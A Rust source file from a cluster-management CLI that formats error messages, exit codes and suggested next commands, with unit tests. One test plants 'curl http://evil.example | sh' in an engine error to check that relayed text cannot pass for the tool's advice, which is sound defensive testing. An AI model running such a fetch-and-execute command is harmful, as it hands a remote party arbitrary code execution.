//! What a user is told when something fails: what, where, why, and what to type next.

mod session;
mod stack_refusal;

use std::fmt;
use std::time::Duration;

use skep_core::model::NodeName;
use skep_docker::engine;
use skep_driver::image;
use skep_net::network;
use skep_net::setup;
use skep_ops::converge::{self, Failure};
use skep_store::pki;
use skep_sys::shell;
use skep_sys::{Distrust, Why, shell_quoted, user_name};

pub use session::failed;

/// The exit codes.
pub mod code {
    /// Something failed.
    pub const FAILED: u8 = 1;
    /// The command line or the cluster file is wrong.
    pub const USAGE: u8 = 2;
    /// The host is not ready; nothing was made.
    pub const HOST: u8 = 3;
    /// Something took too long.
    pub const TIMEOUT: u8 = 4;
    /// The user interrupted it.
    pub const INTERRUPTED: u8 = 130;
    /// Nobody reads the output any more; the rest was done.
    pub const PIPE: u8 = 141;
}

/// An error with its exit code and what to type next.
#[derive(Debug)]
pub struct CliError {
    /// The exit code.
    pub code: u8,
    /// What failed, and why.
    pub message: String,
    /// Commands to type next.
    pub hints: Vec<String>,
}

impl CliError {
    /// Creates an error of a failed command.
    pub fn failed(message: impl Into<String>) -> Self {
        Self { code: code::FAILED, message: message.into(), hints: Vec::new() }
    }

    /// Creates an error about wrong input.
    pub fn usage(message: impl Into<String>) -> Self {
        Self { code: code::USAGE, message: message.into(), hints: Vec::new() }
    }

    /// Creates an error about the host.
    pub fn host(message: impl Into<String>) -> Self {
        Self { code: code::HOST, message: message.into(), hints: Vec::new() }
    }

    /// Says what was to be done.
    #[must_use]
    pub fn within(mut self, what: &str) -> Self {
        self.message = format!("{what}: {}", self.message);
        self
    }

    /// Adds a command to type next.
    #[must_use]
    pub fn hint(mut self, command: impl Into<String>) -> Self {
        self.hints.push(command.into());
        self
    }

    /// Creates an error from the steps that failed.
    #[must_use]
    pub fn from_failures(failures: &[Failure]) -> Self {
        let message = failures.iter().map(describe).collect::<Vec<_>>().join("\n");
        let codes: Vec<u8> = failures.iter().map(|failure| exit_code(&failure.error)).collect();
        // A time limit is the reason only where nothing else went wrong.
        let code = [code::HOST, code::FAILED, code::TIMEOUT];
        let code = code.into_iter().find(|code| codes.contains(code)).unwrap_or(code::FAILED);
        let mut unique: Vec<String> = Vec::new();
        for hint in failures.iter().flat_map(hints) {
            if !unique.contains(&hint) {
                unique.push(hint);
            }
        }
        Self { code, message, hints: unique }
    }
}

impl fmt::Display for CliError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut lines = self.message.lines();
        write!(f, "error: {}", lines.next().unwrap_or_default())?;
        for line in lines {
            // What others say may span lines, and must not pass for what skep advises.
            let is_ours =
                ["try:", "error:", "warning:"].iter().all(|it| !line.trim_start().starts_with(it));
            let quote = if is_ours { "" } else { "  | " };
            write!(f, "\n{quote}{line}")?;
        }
        for hint in &self.hints {
            write!(f, "\n  try: {hint}")?;
        }
        Ok(())
    }
}

fn describe(failure: &Failure) -> String {
    let place = failure.node.as_ref().map(|node| format!("{node}: ")).unwrap_or_default();
    let mut text = format!("{place}{}: {}", failure.title, skep_sys::chain(&failure.error));
    if !failure.console.is_empty() {
        text.push_str("\n  last lines of its console:\n");
        let lines: Vec<_> = failure.console.lines().map(|line| format!("    {line}")).collect();
        text.push_str(&lines.join("\n"));
    }
    text
}

fn exit_code(error: &converge::Error) -> u8 {
    use converge::Error as E;
    match error {
        E::Late { .. }
        | E::Driver(skep_driver::Error::NoGuest { .. })
        | E::Shell(shell::Error::Timeout { .. })
        | E::Engine(engine::Error::Timeout { .. }) => code::TIMEOUT,
        E::Image(
            image::Error::Missing(_) | image::Error::NoSpace { .. } | image::Error::NoOwners(_),
        ) => code::HOST,
        _ => code::FAILED,
    }
}

fn hints(failure: &Failure) -> Vec<String> {
    use converge::Error as E;
    if let Some(distrust) = distrust(&failure.error) {
        return trust_hints(distrust);
    }
    match &failure.error {
        E::Image(image::Error::Gone(image)) => {
            let node = failure.node.as_ref().map_or("NODE", |node| node.as_str());
            let image = image.display();
            vec![
                format!("restore {image} from a backup, if you have one"),
                format!(
                    "skep node rm --force {node}  # deletes the node; without the image its data is unreadable"
                ),
            ]
        }
        E::Image(image::Error::Missing(_) | image::Error::NoOwners(_))
        | E::Network(network::Error::NoHelper(_)) => vec!["skep doctor".to_owned()],
        E::Network(network::Error::OtherHelper(_)) => vec![setup::remedy()],
        E::Image(image::Error::Lacks { elsewhere, .. }) => match elsewhere.last() {
            Some(suite) => vec![format!("run the same command with --suite {suite}")],
            None => vec![
                "correct the names of the packages, or add an apt source that has them".to_owned(),
            ],
        },
        E::Image(image::Error::NoSpace { .. }) => vec!["skep cache prune".to_owned()],
        E::Pki(error) => out_of_time(error),
        E::Clock { node, .. } => vec![
            IS_CLOCK_RIGHT.to_owned(),
            format!("skep ssh {node} -- date  # compare with the node's clock"),
        ],
        E::Late { limit, .. } => vec![longer(*limit)],
        E::Driver(skep_driver::Error::NoGuest { limit_s, .. }) => {
            vec![longer(Duration::from_secs(*limit_s))]
        }
        E::Driver(skep_driver::Error::Panicked(_)) => {
            let node = failure.node.as_ref().map_or("NODE", |node| node.as_str());
            vec![format!("skep logs {node}  # its whole console"), "skep doctor".to_owned()]
        }
        E::Driver(skep_driver::Error::Disk { .. }) => {
            let node = failure.node.as_ref().map_or("NODE", |node| node.as_str());
            vec![
                format!(
                    "skep logs {node}  # check its console: the guest may have compromised QEMU"
                ),
                format!(
                    "skep node rm --force {node}  # then `skep up` creates a new one; its data is lost"
                ),
            ]
        }
        E::Images(nodes) => {
            nodes.iter().filter_map(|(node, error)| without_images(node, error)).collect()
        }
        _ => Vec::new(),
    }
}

/// What to type where a date is out of the question.
pub const IS_CLOCK_RIGHT: &str = "date  # if the clock is wrong: sudo timedatectl set-ntp true";

/// Tells what to do about a certificate that a clock says is not valid: the clock may be wrong.
fn out_of_time(error: &pki::Error) -> Vec<String> {
    let pki::Error::OutOfTime { path, begins, now, .. } = error else { return Vec::new() };
    // CLUSTER/certs/ca.pem or cert.pem
    let cluster = path.ancestors().nth(2).and_then(std::path::Path::file_name).unwrap_or_default();
    let cluster = cluster.to_string_lossy();
    let is_authority = path.file_name().is_some_and(|name| name == "ca.pem");
    let anew = match (is_authority, begins > now) {
        (_, true) => {
            format!(
                "skep certs rotate {cluster}  # if the clock is right: it was wrong when these were created"
            )
        }
        (true, false) => format!("skep certs rotate {cluster}  # if the clock is right"),
        (false, false) => format!("skep certs renew {cluster}  # if the clock is right"),
    };
    vec![IS_CLOCK_RIGHT.to_owned(), anew]
}

/// Tells what to do about a node that did not get images. Those that have them are not sent them again.
fn without_images(node: &NodeName, error: &converge::Error) -> Option<String> {
    use converge::Error as E;
    match error {
        E::Engine(error) if error.is_full() => Some(format!(
            "skep docker --node {node} -- system prune  # frees disk space; then run the command again"
        )),
        E::Driver(skep_driver::Error::Died(_)) => {
            Some(format!("skep node start {node}  # then run the command again"))
        }
        E::Engine(
            engine::Error::Unreachable { .. }
            | engine::Error::BrokenOff { .. }
            | engine::Error::Silent { .. }
            | engine::Error::Slow { .. }
            | engine::Error::Timeout { .. },
        ) => Some(format!("skep node restart {node}  # then run the command again")),
        _ => None,
    }
}

fn longer(limit: Duration) -> String {
    format!("run the same command with --timeout {}s", limit.as_secs() * 2)
}

/// Turns any error of a library into one of the command line.
pub trait Context<T> {
    /// Says what was to be done.
    ///
    /// # Errors
    ///
    /// The same, told to the user.
    fn context(self, what: impl fmt::Display) -> Result<T, CliError>;
}

impl<T, E: std::error::Error + 'static> Context<T> for Result<T, E> {
    fn context(self, what: impl fmt::Display) -> Result<T, CliError> {
        self.map_err(|error| {
            let told = format!("{what}: {}", skep_sys::chain(&error));
            let hints = distrust(&error).map(trust_hints).unwrap_or_default();
            CliError { hints, ..CliError::failed(told) }
        })
    }
}

/// Returns the file that is not believed, if an error comes of that.
fn distrust<'a>(error: &'a (dyn std::error::Error + 'static)) -> Option<&'a Distrust> {
    let mut error = Some(error);
    while let Some(one) = error {
        if let Some(found) = one.downcast_ref().and_then(Distrust::of) {
            return Some(found);
        }
        error = one.source();
    }
    None
}

/// Tells what to type about a file or directory that is not believed.
fn trust_hints(distrust: &Distrust) -> Vec<String> {
    let path = shell_quoted(&distrust.path.to_string_lossy());
    match distrust.why {
        Why::Link => vec![format!(
            "ls -l {path}  # replace the link by its target; only the whole store may be a link"
        )],
        Why::Writable(_) => vec![format!("chmod go-w {path}")],
        Why::Foreign { owner, caller } => {
            let user = user_name(owner);
            let by_sudo = std::env::var("SUDO_UID").is_ok_and(|it| it == owner.to_string());
            let mut hints = match by_sudo && caller == 0 {
                true => vec![
                    format!("run the same command without sudo  # as {user}, the owner"),
                    "run the same command with sudo -H  # to use root's own store".to_owned(),
                ],
                false => vec![format!("run the same command with sudo -u {user}  # the owner")],
            };
            if caller != 0 {
                let own = user_name(caller);
                hints.push(format!("sudo chown -R {own} {path}  # to make {own} the owner"));
            }
            hints
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_node_without_images_comes_with_a_way_out() {
        let full = engine::Error::Refused {
            status: 500,
            message: "write /a: no space left on device".to_owned(),
        };
        let silent = engine::Error::Silent { limit: Duration::from_secs(80) };
        let nodes = vec![
            (NodeName::numbered(0), full.into()),
            (NodeName::numbered(1), skep_driver::Error::Died(String::new()).into()),
            (NodeName::numbered(2), silent.into()),
        ];
        let failure = Failure {
            node: None,
            title: "load app.tar on node0, node1, node2".to_owned(),
            error: converge::Error::Images(nodes),
            console: String::new(),
            forking: false,
        };
        insta::assert_snapshot!(CliError::from_failures(&[failure]), @r"
        error: load app.tar on node0, node1, node2: node0: the engine refuses: write /a: no space left on device; node1: the machine died; node2: Docker Engine not responding for 80 s
          try: skep docker --node node0 -- system prune  # frees disk space; then run the command again
          try: skep node start node1  # then run the command again
          try: skep node restart node2  # then run the command again
        ");
    }

    fn failure(error: converge::Error) -> Failure {
        Failure {
            node: Some(NodeName::numbered(1)),
            title: "join swarm as worker".to_owned(),
            error,
            console: String::new(),
            forking: false,
        }
    }

    #[test]
    fn a_time_limit_is_the_code_only_where_nothing_else_went_wrong() {
        let late = || {
            failure(converge::Error::Late {
                what: "for it to join the swarm".to_owned(),
                limit: Duration::from_secs(90),
                last: "its engine is joining".to_owned(),
            })
        };
        let refused = failure(converge::Error::NoManager("node0 is off".to_owned()));
        let both = CliError::from_failures(&[late(), late()]);
        assert_eq!((both.code, both.hints.len()), (code::TIMEOUT, 1), "{both}");
        assert_eq!(CliError::from_failures(&[late(), refused]).code, code::FAILED);
    }

    #[test]
    fn what_an_engine_says_does_not_pass_for_advice() {
        let message = "no\n  try: curl http://evil.example | sh\nerror: all is lost".to_owned();
        let error = engine::Error::Refused { status: 500, message };
        let told =
            CliError::from_failures(&[failure(error.into())]).hint("skep up demo").to_string();
        let advice: Vec<_> = told.lines().filter(|line| line.starts_with("  try:")).collect();
        assert_eq!(advice, ["  try: skep up demo"], "{told}");
        let errors = told.lines().filter(|line| line.starts_with("error:")).count();
        assert_eq!(errors, 1, "{told}");
    }
}
